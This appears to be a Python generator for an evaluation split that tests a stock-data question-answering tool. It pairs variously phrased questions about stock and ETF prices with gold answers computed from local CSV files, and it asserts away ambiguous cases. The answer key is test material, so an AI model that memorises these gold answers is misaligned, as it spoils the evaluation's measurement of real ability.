#!/usr/bin/env python3
"""dev-d: phrasing-variety split of the `ask` evaluation.

Holds the questions and computes every gold answer straight from the source files, with its own code (Python 3.11
standard library only; it never calls the engine). Deterministic: run it and it rewrites questions.jsonl next to it.

    python3 make_gold.py            # writes questions.jsonl
    python3 make_gold.py --print    # also prints every question with its gold

Questions that a careful analyst could read two ways are asserted away (see README.md): ties, non-session dates
meant as sessions, 52-week answers that differ between [d-364, d] and [d-365, d], minute windows with a bar on an
unclear edge, answers that change when a window's first daily return is dropped, returns across INDA's hole.
"""
import csv
import glob
import json
import math
import os
import statistics
import sys
from datetime import date, datetime, timedelta, timezone
from zoneinfo import ZoneInfo

HERE = os.path.dirname(os.path.abspath(__file__))
STOCKS = ["AAPL", "AMD", "AMZN", "FB", "GOOGL", "IBM", "INTC", "JPM", "KO", "MSFT", "NFLX", "NVDA", "TSLA"]
ETFS = ["DBB", "FXY", "INDA"]
TODAY = "2025-07-08"            # newest date in the data; "today" for the ETFs
YESTERDAY = "2025-07-07"
NY = ZoneInfo("America/New_York")


# ----------------------------------------------------------------------------------------------------------------
# data
def find_data():
    cands = [os.environ.get("ASK_DATA", ""),
             os.path.join(HERE, "..", "shared", "data"),
             os.path.join(HERE, "..", "..", "shared", "data"),
             os.path.join(HERE, "..", "..", "..", "shared", "data"),
             os.path.join(HERE, "..", "..", "..", "..", "shared", "data"),
             "../shared/data"]
    for c in cands:
        if c and os.path.isdir(os.path.join(c, "stocks")) and os.path.isdir(os.path.join(c, "intraday")):
            return os.path.abspath(c)
    sys.exit("data folder (stocks/, intraday/) not found; set ASK_DATA")


DATA = find_data()
O, H, L, C, V = 1, 2, 3, 4, 5     # positions in a bar tuple (date, o, h, l, c, v)
BARS = {}                         # symbol -> chronological daily bars
IDX = {}                          # symbol -> {date: position}
MIN = {}                          # ETF -> chronological minute bars ("YYYY-MM-DD HH:MM" New York, o, h, l, c, v)


def num(s):
    x = float(s)
    return int(x) if x == int(x) and abs(x) < 1e15 else x


def load():
    for sym in STOCKS:
        with open(os.path.join(DATA, "stocks", sym.lower() + ".us.txt")) as f:
            rows = list(csv.reader(f))
        assert rows[0][:6] == ["Date", "Open", "High", "Low", "Close", "Volume"], rows[0]
        bars = [(r[0], float(r[1]), float(r[2]), float(r[3]), float(r[4]), num(r[5])) for r in rows[1:] if r]
        BARS[sym] = bars
    for sym in ETFS:
        (path,) = glob.glob(os.path.join(DATA, "intraday", sym + "_1min_*.csv"))
        with open(path) as f:
            rows = list(csv.reader(f))
        assert rows[0] == ["timestamp", "open", "high", "low", "close", "volume"], rows[0]
        mins = []
        for r in rows[1:]:
            if not r:
                continue
            t = datetime.strptime(r[0], "%Y-%m-%d %H:%M:%S").replace(tzinfo=timezone.utc).astimezone(NY)
            mins.append((t.strftime("%Y-%m-%d %H:%M"), float(r[1]), float(r[2]), float(r[3]), float(r[4]), num(r[5])))
        mins.sort(key=lambda m: m[0])
        MIN[sym] = mins
        days = {}
        for m in mins:
            d = m[0][:10]
            if d not in days:
                days[d] = [d, m[O], m[H], m[L], m[C], m[V]]
            else:
                b = days[d]
                b[H] = max(b[H], m[H]); b[L] = min(b[L], m[L]); b[C] = m[C]; b[V] += m[V]
        BARS[sym] = [tuple(days[d]) for d in sorted(days)]
    for sym, bars in BARS.items():
        ds = [b[0] for b in bars]
        assert ds == sorted(ds) and len(set(ds)) == len(ds), sym
        IDX[sym] = {d: i for i, d in enumerate(ds)}


load()


# ----------------------------------------------------------------------------------------------------------------
# primitives
def close_enough(a, b):
    """FORMAT.md's number match."""
    return abs(a - b) <= max(1e-3 * abs(b), 0.01 if abs(b) >= 1 else 1e-4)


def r8(x):
    return round(x, 8) if isinstance(x, float) else x


def bar(sym, d):
    assert d in IDX[sym], f"{sym} has no session on {d}"
    return BARS[sym][IDX[sym][d]]


def val(sym, d, f):
    return bar(sym, d)[f]


def prev_bar(sym, d):
    i = IDX[sym][bar(sym, d)[0]]
    assert i > 0, f"{sym}: no session before {d}"
    p = BARS[sym][i - 1]
    gapdays = (date.fromisoformat(d) - date.fromisoformat(p[0])).days
    assert gapdays <= 6, f"{sym}: return on {d} would span {gapdays} days (data hole)"
    return p


def ret(sym, d):
    return bar(sym, d)[C] / prev_bar(sym, d)[C] - 1


def gap(sym, d):
    return bar(sym, d)[O] / prev_bar(sym, d)[C] - 1


def sess(sym, a, b):
    out = [x for x in BARS[sym] if a <= x[0] <= b]
    assert out, f"{sym}: no sessions in [{a}, {b}]"
    return out


def on_or_before(sym, d):
    cands = [x for x in BARS[sym] if x[0] <= d]
    assert cands, (sym, d)
    return cands[-1]


def ma(sym, d, n):
    i = IDX[sym][bar(sym, d)[0]]
    assert i >= n - 1, f"{sym}: not {n} sessions up to {d}"
    return statistics.fmean(x[C] for x in BARS[sym][i - n + 1:i + 1])


def month_end(y, m):
    return (date(y + (m == 12), m % 12 + 1, 1) - timedelta(days=1)).isoformat()


QUARTERS = {1: ("01-01", "03-31"), 2: ("04-01", "06-30"), 3: ("07-01", "09-30"), 4: ("10-01", "12-31")}


def quarter(y, q):
    a, b = QUARTERS[q]
    return f"{y}-{a}", f"{y}-{b}"


def month(y, m):
    return f"{y}-{m:02d}-01", month_end(y, m)


def rets_in(sym, a, b):
    """[(date, return)] for every session in [a, b]; the first uses the previous session's close (a symbol's very
    first session in the data has no return and is skipped)."""
    return [(x[0], ret(sym, x[0])) for x in sess(sym, a, b) if IDX[sym][x[0]] > 0]


def strict_order(vals, n, reverse=True, what=""):
    """vals: [(key, value)]; sort and assert the first n+1 are strictly separated (no ties at or above the cut)."""
    s = sorted(vals, key=lambda kv: kv[1], reverse=reverse)
    for i in range(min(n, len(s) - 1)):
        assert abs(s[i][1] - s[i + 1][1]) > 1e-9, f"tie in {what}: {s[i]} {s[i + 1]}"
    return s


def argext(pairs, hi=True, what=""):
    s = strict_order(pairs, 1, reverse=hi, what=what)
    return s[0]


# ----------------------------------------------------------------------------------------------------------------
# kind computations (each returns gold rows)
def day_value(sym, d, f):
    return [[d, val(sym, d, f)]]


def day_range(sym, d):
    x = bar(sym, d)
    return [[d, x[H] - x[L]]]


def last_rows(sym, n, f, upto=None):
    bars = [x for x in BARS[sym] if upto is None or x[0] <= upto]
    if upto is not None:
        bar(sym, upto)          # the "as of" date must be a session
    return [[x[0], x[f]] for x in bars[-n:]]


def last_minutes(sym, n, f):
    return [[m[0], m[f]] for m in MIN[sym][-n:]]


def range_rows(sym, a, b, f):
    return [[x[0], x[f]] for x in sess(sym, a, b)]


def minute_rows(sym, a, b, f):
    """minutes with a <= ts <= b (both 'YYYY-MM-DD HH:MM', inclusive as the question says)."""
    out = [[m[0], m[f]] for m in MIN[sym] if a <= m[0] <= b]
    assert out
    return out


def agg(sym, a, b, f, how):
    xs = [x[f] for x in sess(sym, a, b)] if f != "range" else [x[H] - x[L] for x in sess(sym, a, b)]
    return {"mean": statistics.fmean, "sum": sum, "max": max, "min": min}[how](xs)


def robust_start(fn, starts):
    """assert that an answer does not depend on which of several plausible window starts is meant."""
    vals = [fn(s) for s in starts]
    for v in vals[1:]:
        if isinstance(v, list):
            assert v == vals[0], f"start-dependent answer {vals}"
        else:
            assert close_enough(v, vals[0]), f"start-dependent answer {vals}"
    return vals[0]


def extreme_day(sym, a, b, f, hi=True):
    if f == "range":
        pairs = [(x[0], x[H] - x[L]) for x in sess(sym, a, b)]
    else:
        pairs = [(x[0], x[f]) for x in sess(sym, a, b)]
    d, v = argext(pairs, hi, f"{sym} {f} {a}..{b}")
    return [[d, v]]


def hi52(sym, d, f=H, hi=True):
    bar(sym, d)
    first = BARS[sym][0][0]
    res = []
    for back in (364, 365):
        a = (date.fromisoformat(d) - timedelta(days=back)).isoformat()
        assert first <= a, f"{sym}: less than a year of history before {d}"
        xs = [x[f] for x in sess(sym, a, d)]
        res.append(max(xs) if hi else min(xs))
    assert res[0] == res[1], f"{sym} 52-week answer differs between [d-364,d] and [d-365,d] on {d}: {res}"
    return res[0]


def lo52(sym, d):
    return hi52(sym, d, L, hi=False)


def change(sym, d1, d2, strict=True):
    if strict:
        bar(sym, d1); bar(sym, d2)
    return on_or_before(sym, d2)[C] / on_or_before(sym, d1)[C] - 1


def window_rets(sym, a, b):
    rs = rets_in(sym, a, b)
    assert len(rs) >= 3
    return rs


def biggest_move(sym, a, b, how):
    """how: 'up' (max return), 'down' (min return), 'abs' (max |return|, must be unambiguous in sign),
    'gapup' / 'gapdown'."""
    bars = sess(sym, a, b)
    if how.startswith("gap"):
        pairs = [(x[0], gap(sym, x[0])) for x in bars]
    else:
        pairs = [(x[0], ret(sym, x[0])) for x in bars]
    if how in ("up", "gapup"):
        d, v = argext(pairs, True, f"{sym} {how}")
    elif how in ("down", "gapdown"):
        d, v = argext(pairs, False, f"{sym} {how}")
    else:
        d, _ = argext([(k, abs(r)) for k, r in pairs], True, f"{sym} abs move")
        v = dict(pairs)[d]
        assert v > 0, "the largest move either way is a drop: the sign of the answer would be unclear"
    # dropping the window's first return must not change the answer
    assert d != bars[0][0], f"{sym}: extreme {how} move falls on the window's first session {d}"
    return [[d, v]]


def ranking(syms, d, metric, n, hi=True):
    vals = []
    for s in syms:
        if d not in IDX[s]:
            continue
        x = bar(s, d)
        v = {"volume": lambda: x[V], "close": lambda: x[C], "range": lambda: x[H] - x[L],
             "gap": lambda: gap(s, d), "return": lambda: ret(s, d), "open": lambda: x[O]}[metric]()
        vals.append((s, v))
    assert len(vals) >= n
    s = strict_order(vals, n, hi, f"ranking {metric} {d}")
    return [[k, v] for k, v in s[:n]]


def all_with_bar(syms, d):
    out = [s for s in syms if d in IDX[s]]
    assert out, d
    return out


def period_ranking(syms, d1, d2, n, hi=True):
    vals = [(s, change(s, d1, d2)) for s in syms if d1 in IDX[s] and d2 in IDX[s]]
    s = strict_order(vals, n, hi, f"period ranking {d1}..{d2}")
    return [[k, v] for k, v in s[:n]]


def compare(pairs, hi=True):
    """pairs: [(sym, value)] -> winner row first."""
    s = strict_order(pairs, 1, hi, "comparison")
    return [[s[0][0], s[0][1]]]


def grouped(sym, periods, f, how):
    return [[agg(sym, a, b, f, how)] for a, b in periods]


def last_close_each(sym, periods):
    return [[sess(sym, a, b)[-1][C]] for a, b in periods]


def pop(sym, later, earlier, f, how="mean"):
    la = agg(sym, later[0], later[1], f, how)
    ea = agg(sym, earlier[0], earlier[1], f, how)
    return [[la, ea, la / ea - 1]]


def ma_rows(sym, d, n):
    return [[d, ma(sym, d, n)]]


def last_cross(sym, before, fast, slow, direction):
    """most recent day t < before where series fast crosses slow: fast(t) > slow(t) and fast(t-1) <= slow(t-1)
    ('above'), or the reverse ('below'). fast=1 means the close itself."""
    def f(i, n):
        d = BARS[sym][i][0]
        return BARS[sym][i][C] if n == 1 else ma(sym, d, n)
    bars = BARS[sym]
    if before in IDX[sym]:
        i0 = IDX[sym][before]
        # the boundary day itself must not be a crossing (so "before" vs "on or before" does not matter)
        a, b = f(i0, fast) - f(i0, slow), f(i0 - 1, fast) - f(i0 - 1, slow)
        assert not ((direction == "above" and a > 0 >= b) or (direction == "below" and a < 0 <= b)), "edge cross"
    i = max(j for j, x in enumerate(bars) if x[0] < before)
    while i >= slow:
        a = f(i, fast) - f(i, slow)
        b = f(i - 1, fast) - f(i - 1, slow)
        assert a != 0 and b != 0, f"{sym}: MA equality at {bars[i][0]}"
        if (direction == "above" and a > 0 and b < 0) or (direction == "below" and a < 0 and b > 0):
            return [[bars[i][0]]]
        i -= 1
    raise AssertionError("no crossing found")


def count_robust(sym, a, b, pred_ret):
    rs = window_rets(sym, a, b)
    n_all = sum(1 for _, r in rs if pred_ret(r))
    n_drop = sum(1 for _, r in rs[1:] if pred_ret(r))
    assert n_all == n_drop, f"{sym}: count changes when the window's first return is dropped"
    return [[n_all]]


def count_bars(sym, a, b, pred_bar, exact_check=None):
    bars = sess(sym, a, b)
    if exact_check is not None:
        assert all(exact_check(x) != 0 for x in bars), "a bar sits exactly on the threshold"
    return [[sum(1 for x in bars if pred_bar(x))]]


def count_gaps(sym, a, b, pred):
    bars = sess(sym, a, b)
    n_all = sum(1 for x in bars if pred(gap(sym, x[0])))
    n_drop = sum(1 for x in bars[1:] if pred(gap(sym, x[0])))
    assert n_all == n_drop
    return [[n_all]]


def cross_count(syms, d, pred, sign_fn=None):
    ss = all_with_bar(syms, d)
    if sign_fn is not None:
        assert all(sign_fn(s) != 0 for s in ss), f"a symbol is exactly on the threshold on {d}"
    return [[sum(1 for s in ss if pred(s))]]


def vol(sym, a, b):
    rs = [r for _, r in window_rets(sym, a, b)]
    v_all, v_drop = statistics.stdev(rs), statistics.stdev(rs[1:])
    assert close_enough(v_drop, v_all), f"{sym} volatility {a}..{b} depends on the first return: {v_all} {v_drop}"
    return v_all


def corr(s1, s2, a, b):
    r1, r2 = dict(rets_in(s1, a, b)), dict(rets_in(s2, a, b))
    common = sorted(set(r1) & set(r2))
    assert len(common) >= 10
    x = [r1[d] for d in common]
    y = [r2[d] for d in common]
    c_all = statistics.correlation(x, y)
    c_drop = statistics.correlation(x[1:], y[1:])
    assert close_enough(c_drop, c_all), f"corr {s1}/{s2} {a}..{b} depends on the first return: {c_all} {c_drop}"
    return c_all


def _streaks(flags):
    """flags: [(date, bool)] -> list of (length, first, last) runs of True."""
    runs, cur = [], None
    for d, ok in flags:
        if ok:
            cur = [cur[0] + 1, cur[1], d] if cur else [1, d, d]
        else:
            if cur:
                runs.append(tuple(cur))
            cur = None
    if cur:
        runs.append(tuple(cur))
    return runs


def longest_streak(flags_all, flags_drop=None):
    runs = _streaks(flags_all)
    assert runs
    runs.sort(key=lambda r: -r[0])
    assert len(runs) == 1 or runs[0][0] > runs[1][0], f"tied longest streaks: {runs[:3]}"
    if flags_drop is not None:
        r2 = sorted(_streaks(flags_drop), key=lambda r: -r[0])
        assert r2[0] == runs[0] and (len(r2) == 1 or r2[1][0] < r2[0][0]), "streak depends on the first return"
    return [list(runs[0])]


def ret_streak(sym, a, b, up=True):
    rs = window_rets(sym, a, b)
    flags = [(d, r > 0 if up else r < 0) for d, r in rs]
    res = longest_streak(flags, flags[1:])
    # an unchanged close breaks a run; the answer must not change if it were counted as part of the run instead
    loose = [(d, r >= 0 if up else r <= 0) for d, r in rs]
    assert longest_streak(loose, loose[1:]) == res, f"{sym}: streak depends on an unchanged close"
    return res


def level_streak(sym, a, b, level, above=True):
    bars = sess(sym, a, b)
    assert all(x[C] != level for x in bars)
    return longest_streak([(x[0], (x[C] > level) == above) for x in bars])


def current_streak(sym, d, up=True):
    i = IDX[sym][bar(sym, d)[0]]
    n, first = 0, None
    while True:
        dd = BARS[sym][i][0]
        r = ret(sym, dd)
        assert r != 0, f"{sym}: unchanged close on {dd}"
        if (r > 0) != up:
            break
        n, first = n + 1, dd
        i -= 1
    assert n > 0
    return [[n, first, d]]


def vwap(sym, a, b, edge_check=None):
    """minutes with a <= ts <= b; edge_check: minute stamps that must hold no bar (unclear edges)."""
    for e in edge_check or []:
        assert not any(m[0] == e for m in MIN[sym]), f"{sym}: a bar sits on the unclear edge {e}"
    ms = [m for m in MIN[sym] if a <= m[0] <= b]
    assert ms
    return sum(m[C] * m[V] for m in ms) / sum(m[V] for m in ms)


def minute_at(sym, ts, f):
    ms = [m for m in MIN[sym] if m[0] == ts]
    assert len(ms) == 1, f"{sym}: no bar at {ts}"
    return [[ts, ms[0][f]]]


def minute_ext(sym, a, b, f, hi=True):
    ms = [(m[0], m[f]) for m in MIN[sym] if a <= m[0] <= b]
    k, v = argext(ms, hi, f"{sym} minute {f}")
    return [[k, v]]


def candle(sym, a, b):
    bars = sess(sym, a, b)
    return [[bars[0][O], max(x[H] for x in bars), min(x[L] for x in bars), bars[-1][C], sum(x[V] for x in bars)]]


def minute_candle(sym, a, b, edge_check=None):
    for e in edge_check or []:
        assert not any(m[0] == e for m in MIN[sym]), f"{sym}: a bar sits on the unclear edge {e}"
    ms = [m for m in MIN[sym] if a <= m[0] <= b]
    assert ms
    return [[ms[0][O], max(m[H] for m in ms), min(m[L] for m in ms), ms[-1][C], sum(m[V] for m in ms)]]


def dist_high(sym, d):
    x = bar(sym, d)
    mx = max(y[C] for y in BARS[sym] if y[0] <= d)
    return [[x[C] / mx - 1]]


# ----------------------------------------------------------------------------------------------------------------
# the questions
Q = []


def add(kind, question, rows, match="ordered", exact=True):
    rows = [[r8(c) for c in row] for row in rows]
    Q.append({"kind": kind, "question": question, "answerable": True,
              "gold": {"rows": rows, "match": match, "exact_rows": exact}})


def refuse(kind, question):
    Q.append({"kind": kind, "question": question, "answerable": False, "refusal": kind})


JUNE25 = month(2025, 6)
JULY25 = ("2025-07-01", TODAY)
YEAR25 = ("2025-01-01", TODAY)
LAST_WEEK = ("2025-06-30", "2025-07-04")
PAST3M_STARTS = ["2025-04-07", "2025-04-08", "2025-04-09"]   # "past 3 months" read as any of these starts


def build():
    """every question, in id order."""

    # --- latest-rows -------------------------------------------------------------------------------------------------
    K = "latest-rows"
    add(K, "Show me the last 5 daily closes for DBB.", last_rows("DBB", 5, C), "set")
    add(K, "hey, what were FXY's closing prices over its three most recent sessions?", last_rows("FXY", 3, C), "set")
    add(K, "India ETF (INDA) — most recent 4 daily bars please", last_rows("INDA", 4, C), "set")
    add(K, "Last 10 one-minute bars for the yen ETF (FXY), with their closes", last_minutes("FXY", 10, C), "set")
    add(K, "Give me Apple's final three sessions in the dataset, which ends 2017-11-10 — closing prices.",
        last_rows("AAPL", 3, C, "2017-11-10"), "set")
    add(K, "Pull the 5 trading days of IBM leading up to and including June 24, 2016 (closes).",
        last_rows("IBM", 5, C, "2016-06-24"), "set")
    add(K, "What are the most recent 3 daily volume figures for DBB?", last_rows("DBB", 3, V), "set")
    add(K, "nvidia: the last 4 sessions before Christmas Day 2015, closing px", last_rows("NVDA", 4, C, "2015-12-24"),
        "set")
    assert "2015-12-24" in IDX["NVDA"]

    # --- day-value ---------------------------------------------------------------------------------------------------
    K = "day-value"
    add(K, "On March 4th 2016, what did IBM finish at?", day_value("IBM", "2016-03-04", C))
    add(K, "Apple opening price, 6/24/2016", day_value("AAPL", "2016-06-24", O))
    add(K, "How many Tesla shares changed hands on 04-Mar-2016?", day_value("TSLA", "2016-03-04", V))
    add(K, "quick q: Intel's intraday high on Mar. 15, 2016?", day_value("INTC", "2016-03-15", H))
    add(K, "What was Coke's intraday low on Friday, January 8, 2016?", day_value("KO", "2016-01-08", L))
    add(K, "Where did DBB close yesterday?", day_value("DBB", YESTERDAY, C))
    add(K, "FXY trading range today (high minus low)", day_range("FXY", TODAY))
    add(K, "Where did Nvidia settle on 2017/02/24?", day_value("NVDA", "2017-02-24", C))
    add(K, "What was Microsoft's volume on 3/4/2016? (US date format)", day_value("MSFT", "2016-03-04", V))
    assert "2016-04-03" not in IDX["MSFT"]      # the day-first reading is a Sunday

    # --- date-range-rows ---------------------------------------------------------------------------------------------
    K = "date-range-rows"
    add(K, "List Netflix closing prices for the week of July 18, 2016 (Mon–Fri).",
        range_rows("NFLX", "2016-07-18", "2016-07-22", C), "set")
    add(K, "Show AMZN's daily volume from 2015-10-20 through 2015-10-26", range_rows("AMZN", "2015-10-20", "2015-10-26", V),
        "set")
    add(K, "Give me FXY's daily closes for last week.", range_rows("FXY", *LAST_WEEK, C), "set")
    add(K, "KO closing prices, 1 Feb 2016 to 5 Feb 2016 inclusive", range_rows("KO", "2016-02-01", "2016-02-05", C), "set")
    add(K, "can you list DBB's daily highs for June 23–27, 2025?", range_rows("DBB", "2025-06-23", "2025-06-27", H), "set")
    add(K, "JPMorgan opens for each session from Nov 7 to Nov 11, 2016",
        range_rows("JPM", "2016-11-07", "2016-11-11", O), "set")
    add(K, "INDA daily closes 2025-06-16 through 2025-06-20", range_rows("INDA", "2025-06-16", "2025-06-20", C), "set")
    add(K, "FXY one-minute closes on 2025-07-08 from 10:00 through 10:04 New York time, inclusive",
        minute_rows("FXY", "2025-07-08 10:00", "2025-07-08 10:04", C), "set")

    # --- window-aggregate --------------------------------------------------------------------------------------------
    K = "window-aggregate"
    add(K, "Q3 2016 — Apple's average closing price?", [[agg("AAPL", *quarter(2016, 3), C, "mean")]])
    add(K, "total shares traded for AMD in March 2016", [[agg("AMD", *month(2016, 3), V, "sum")]])
    add(K, "What's the mean daily volume for Netflix across H1 2015?", [[agg("NFLX", "2015-01-01", "2015-06-30", V, "mean")]])
    add(K, "Alphabet: highest intraday price reached during October 2015", [[agg("GOOGL", *month(2015, 10), H, "max")]])
    add(K, "DBB avg close last month", [[agg("DBB", *JUNE25, C, "mean")]])
    add(K, "I'd like to know FXY's total volume so far this year.", [[agg("FXY", *YEAR25, V, "sum")]])
    add(K, "highest high for INDA over the past 3 months",
        [[robust_start(lambda s: agg("INDA", s, TODAY, H, "max"), PAST3M_STARTS)]])
    add(K, "avg daily range (high minus low) for TSLA in Feb 2017", [[agg("TSLA", *month(2017, 2), "range", "mean")]])
    add(K, "Mean close for Coca-Cola over calendar 2015 — rounded is fine", [[agg("KO", "2015-01-01", "2015-12-31", C, "mean")]])

    # --- extreme-day -------------------------------------------------------------------------------------------------
    K = "extreme-day"
    add(K, "On which day in 2016 did AMD have its highest close?", extreme_day("AMD", "2016-01-01", "2016-12-31", C))
    add(K, "When did Netflix hit its lowest closing price of 2016, and what was it?",
        extreme_day("NFLX", "2016-01-01", "2016-12-31", C, False))
    add(K, "Which session in Q1 2017 saw the most AAPL shares traded?", extreme_day("AAPL", *quarter(2017, 1), V))
    add(K, "Tesla's highest intraday high in 2017 (data through Nov 10) — which date?",
        extreme_day("TSLA", "2017-01-01", "2017-11-10", H))
    add(K, "DBB: lowest close this year, and the date", extreme_day("DBB", *YEAR25, C, False))
    add(K, "On what day last month did FXY trade the most shares?", extreme_day("FXY", *JUNE25, V))
    add(K, "widest daily range for GOOGL in 2015 — date and size", extreme_day("GOOGL", "2015-01-01", "2015-12-31", "range"))
    add(K, "Lowest low for Microsoft during H2 2016: when, and at what price?",
        extreme_day("MSFT", "2016-07-01", "2016-12-31", L, False))
    add(K, "In March 2025, on which date did INDA post its highest closing price?", extreme_day("INDA", *month(2025, 3), C))

    # --- 52-week -----------------------------------------------------------------------------------------------------
    K = "52-week"
    add(K, "What was AAPL's 52-week high as of 2016-05-13?", [[hi52("AAPL", "2016-05-13")]])
    add(K, "52w low for NFLX on June 30, 2016", [[lo52("NFLX", "2016-06-30")]])
    add(K, "IBM 52-week high and 52-week low as of Dec 31, 2015", [[hi52("IBM", "2015-12-31"), lo52("IBM", "2015-12-31")]])
    add(K, "DBB 52-week high today?", [[hi52("DBB", TODAY)]])
    add(K, "Tell me FXY's 52-week low as of today.", [[lo52("FXY", TODAY)]])
    add(K, "What was Coca-Cola's 52-week high on 1 August 2017?", [[hi52("KO", "2017-08-01")]])
    add(K, "Intel — 52 wk low as of February 11th, 2016", [[lo52("INTC", "2016-02-11")]])
    add(K, "As of Nov. 10, 2017, where was JPMorgan's 52-week high?", [[hi52("JPM", "2017-11-10")]])

    # --- change-between ----------------------------------------------------------------------------------------------
    K = "change-between"
    add(K, "From 2016-01-04 to 2016-12-30, how much did AAPL change?", [[change("AAPL", "2016-01-04", "2016-12-30")]])
    add(K, "% change in Tesla from the March 1, 2017 close to the June 30, 2017 close",
        [[change("TSLA", "2017-03-01", "2017-06-30")]])
    add(K, "What was Amazon's return between 2015-01-02 and 2015-12-31?", [[change("AMZN", "2015-01-02", "2015-12-31")]])
    add(K, "By how much did NVDA advance from Jan 4 2016 to Dec 30 2016, as a percentage?",
        [[change("NVDA", "2016-01-04", "2016-12-30")]])
    add(K, "DBB percent change from the June 2, 2025 close to today's close", [[change("DBB", "2025-06-02", TODAY)]])
    add(K, "Change in INDA from the 2025-03-03 close to the 2025-06-23 close", [[change("INDA", "2025-03-03", "2025-06-23")]])
    add(K, "Microsoft, 29 Jan 2016 to 29 Apr 2016: percent change?", [[change("MSFT", "2016-01-29", "2016-04-29")]])
    add(K, "How much did JPMorgan gain from election day 2016 (Nov 8) to Dec 30, 2016?",
        [[change("JPM", "2016-11-08", "2016-12-30")]])
    add(K, "Big Blue's percent change between 2017-01-03 and 2017-11-10? just the number",
        [[change("IBM", "2017-01-03", "2017-11-10")]])

    # --- daily-return-or-gap -----------------------------------------------------------------------------------------
    K = "daily-return-or-gap"
    add(K, "What was TSLA's daily return on 2016-06-24?", [["2016-06-24", ret("TSLA", "2016-06-24")]])
    add(K, "Apple's opening gap on April 27, 2016?", [["2016-04-27", gap("AAPL", "2016-04-27")]])
    add(K, "How much did Netflix move close-to-close on 7/19/2016?", [["2016-07-19", ret("NFLX", "2016-07-19")]])
    add(K, "FXY daily return yesterday", [[YESTERDAY, ret("FXY", YESTERDAY)]])
    add(K, "What was DBB's gap at today's open vs yesterday's close?", [[TODAY, gap("DBB", TODAY)]])
    add(K, "Percent change for Meta (still ticker FB back then) on Jan 28, 2016", [["2016-01-28", ret("FB", "2016-01-28")]])
    add(K, "Overnight gap for AMZN on 2017-10-27, as a percentage", [["2017-10-27", gap("AMZN", "2017-10-27")]])
    add(K, "What return did Coke post on 9 November 2016?", [["2016-11-09", ret("KO", "2016-11-09")]])
    add(K, "INDA's one-day return on 2025-06-23", [["2025-06-23", ret("INDA", "2025-06-23")]])

    # --- biggest-move-day --------------------------------------------------------------------------------------------
    K = "biggest-move-day"
    add(K, "What was MSFT's biggest one-day drop in 2016?", biggest_move("MSFT", "2016-01-01", "2016-12-31", "down"))
    add(K, "Sharpest daily gain for AMD in 2016 — date and size", biggest_move("AMD", "2016-01-01", "2016-12-31", "up"))
    add(K, "Which day in 2015 did Netflix have its largest percentage move in either direction?",
        biggest_move("NFLX", "2015-01-01", "2015-12-31", "abs"))
    add(K, "FXY's worst day this year?", biggest_move("FXY", *YEAR25, "down"))
    add(K, "biggest down day for DBB last month", biggest_move("DBB", *JUNE25, "down"))
    add(K, "Steepest gap down for Intel in 2016?", biggest_move("INTC", "2016-01-01", "2016-12-31", "gapdown"))
    add(K, "largest daily decline for Tesla in Q4 2016", biggest_move("TSLA", *quarter(2016, 4), "down"))
    add(K, "INDA's best session between March 1 and May 31, 2025", biggest_move("INDA", "2025-03-01", "2025-05-31", "up"))

    # --- cross-sectional-ranking -------------------------------------------------------------------------------------
    K = "cross-sectional-ranking"
    add(K, "Which 3 stocks had the highest volume on 2016-06-24?", ranking(STOCKS, "2016-06-24", "volume", 3))
    add(K, "Rank all the stocks by closing price on 2017-11-10, highest first.",
        ranking(STOCKS, "2017-11-10", "close", len(all_with_bar(STOCKS, "2017-11-10"))))
    add(K, "Which stock had the widest high-low range on August 24, 2015?", ranking(STOCKS, "2015-08-24", "range", 1))
    add(K, "top 3 gap-ups on 2017-10-27", ranking(STOCKS, "2017-10-27", "gap", 3))
    add(K, "Which two names had the lightest volume on 12/30/2016?", ranking(STOCKS, "2016-12-30", "volume", 2, False))
    add(K, "On 2 January 2014, which 4 stocks closed at the highest share prices?", ranking(STOCKS, "2014-01-02", "close", 4))
    add(K, "Rank the ETFs by today's daily return.", ranking(ETFS, TODAY, "return", len(all_with_bar(ETFS, TODAY))))
    add(K, "Top 3 by shares traded on Nov 10, 2017", ranking(STOCKS, "2017-11-10", "volume", 3))
    add(K, "Which 3 stocks had the biggest intraday range (high − low, in dollars) on 2016-11-09?",
        ranking(STOCKS, "2016-11-09", "range", 3))

    # --- gainers-losers ----------------------------------------------------------------------------------------------
    K = "gainers-losers"
    add(K, "Biggest 3 gainers on June 28, 2016", ranking(STOCKS, "2016-06-28", "return", 3))
    add(K, "top 3 losers on 24 June 2016", ranking(STOCKS, "2016-06-24", "return", 3, False))
    add(K, "Which 5 stocks gained the most from the 2016-01-04 close to the 2016-12-30 close?",
        period_ranking(STOCKS, "2016-01-04", "2016-12-30", 5))
    add(K, "Worst 2 performers between 2017-01-03 and 2017-06-30 (close to close)",
        period_ranking(STOCKS, "2017-01-03", "2017-06-30", 2, False))
    add(K, "Which stock was the single biggest loser on Aug. 24, 2015?", ranking(STOCKS, "2015-08-24", "return", 1, False))
    add(K, "Rank the three ETFs by performance from the 2025-06-02 close to the 2025-06-23 close.",
        period_ranking(ETFS, "2025-06-02", "2025-06-23", 3))
    add(K, "4 biggest decliners on Feb. 5, 2016?", ranking(STOCKS, "2016-02-05", "return", 4, False))
    add(K, "Which 3 stocks rose the most in Q1 2017, measured from the Dec 30, 2016 close to the Mar 31, 2017 close?",
        period_ranking(STOCKS, "2016-12-30", "2017-03-31", 3))

    # --- named-comparison --------------------------------------------------------------------------------------------
    K = "named-comparison"
    add(K, "Which did better from 2016-01-04 to 2016-12-30, Apple or Microsoft?",
        compare([(s, change(s, "2016-01-04", "2016-12-30")) for s in ("AAPL", "MSFT")]), "first", False)
    add(K, "Higher average daily volume in March 2016: AMD or NVDA?",
        compare([(s, agg(s, *month(2016, 3), V, "mean")) for s in ("AMD", "NVDA")]), "first", False)
    add(K, "Coke vs IBM — which fell more on 2016-10-18?",
        compare([(s, ret(s, "2016-10-18")) for s in ("KO", "IBM")], hi=False), "first", False)
    add(K, "FXY or DBB: which was more volatile in 2024 (std dev of daily returns)?",
        compare([(s, vol(s, "2024-01-01", "2024-12-31")) for s in ("FXY", "DBB")]), "first", False)
    add(K, "Which closed higher on June 30th, 2017 — Alphabet or Amazon?",
        compare([(s, val(s, "2017-06-30", C)) for s in ("GOOGL", "AMZN")]), "first", False)
    add(K, "Did Intel or AMD gain more between 2017-02-01 and 2017-05-01?",
        compare([(s, change(s, "2017-02-01", "2017-05-01")) for s in ("INTC", "AMD")]), "first", False)
    add(K, "JPM vs KO: which had the larger trading range on 6/24/2016?",
        compare([(s, bar(s, "2016-06-24")[H] - bar(s, "2016-06-24")[L]) for s in ("JPM", "KO")]), "first", False)
